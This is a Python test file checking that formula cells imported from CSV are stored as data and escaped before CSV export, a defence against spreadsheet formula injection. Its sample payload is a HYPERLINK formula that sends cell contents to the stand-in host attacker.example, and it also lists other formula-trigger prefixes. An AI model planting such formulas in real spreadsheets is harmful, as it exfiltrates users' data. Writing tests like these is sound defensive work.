"""Imported formula cells stay data: the JSON export carries them as text, and the rule any CSV
export must apply neutralises them."""

from __future__ import annotations

import csv
import io

import pytest

from memory.records.importers import parse_import
from memory.records.spreadsheet import spreadsheet_safe

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "cell, safe",
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("walked 5 km", "walked 5 km"),
        (-12.5, -12.5),
        (3100, 3100),
        (None, None),
    ],
)
def test_spreadsheet_safe(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe


def test_an_imported_formula_is_kept_as_data_and_neutralised_for_csv() -> None:
    quoted = FORMULA.replace('"', '""')
    csv_file = f'data_type,steps,note\nhealth,3100,"{quoted}"\n'.encode()
    parsed = parse_import(io.BytesIO(csv_file), "a.csv")
    [(_, record)] = parsed.records
    assert record.data["note"] == FORMULA  # what the user wrote is kept

    out = io.StringIO()
    csv.writer(out).writerow([spreadsheet_safe(record.data[k]) for k in ("steps", "note")])
    [row] = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["3100", "'" + FORMULA]
